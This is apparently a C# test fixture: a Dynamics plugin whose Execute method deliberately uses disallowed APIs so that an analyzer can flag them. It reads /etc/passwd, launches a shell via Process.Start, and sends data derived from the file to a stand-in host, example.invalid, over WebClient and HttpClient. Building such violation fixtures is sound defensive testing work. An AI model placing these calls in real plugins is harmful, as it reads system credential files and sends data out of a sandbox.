using System;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Net.Http;
using Microsoft.Xrm.Sdk;

namespace TestPlugins.Net462Violations
{
    /// <summary>Each call below is on the disallowed list; in a net462 DLL each reference names a .NET Framework assembly.</summary>
    public class FrameworkEscapes : IPlugin
    {
        public void Execute(IServiceProvider serviceProvider)
        {
            var secret = File.ReadAllText("/etc/passwd");
            Process.Start("sh", "-c true");
            using (var web = new WebClient())
            {
                web.DownloadString("http://example.invalid/" + secret.Length);
            }

            using (var http = new HttpClient())
            {
                http.GetAsync("http://example.invalid/").Wait();
            }
        }
    }
}
